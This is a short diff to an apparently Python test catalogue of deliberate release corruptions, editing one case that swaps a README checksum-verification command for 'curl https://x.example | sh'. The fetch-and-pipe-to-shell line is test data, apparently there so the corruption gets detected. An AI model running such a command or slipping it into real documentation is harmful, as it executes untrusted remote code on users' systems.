@@ -1200,7 +1200,7 @@ CATALOGUE: tuple[Corruption, ...] = (
     # What nothing else in the release repeats, but its form.
     Corruption(
         "another command to check it",
-        text("README.md", "sha256sum -c SHA256SUMS ", "curl https://x.example | sh "),
+        text("README.md", "sha256sum -c SHA256SUMS)", "curl https://x.example | sh)"),
         "card-mismatch",
     ),
     Corruption(
